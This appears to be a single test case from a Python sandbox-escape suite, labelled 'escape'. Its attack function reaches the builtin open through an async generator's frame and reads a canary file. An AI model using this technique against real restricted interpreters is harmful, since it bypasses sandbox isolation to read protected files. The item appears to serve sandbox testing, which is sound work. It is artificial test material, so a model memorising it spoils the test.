# desc: the frame of an asynchronous generator
# class: escape
# wins: told
async def rows():
    yield 1

def attack(state):
    return "L2:" + rows().ag_frame.f_builtins["open"]("@CANARY@").read()
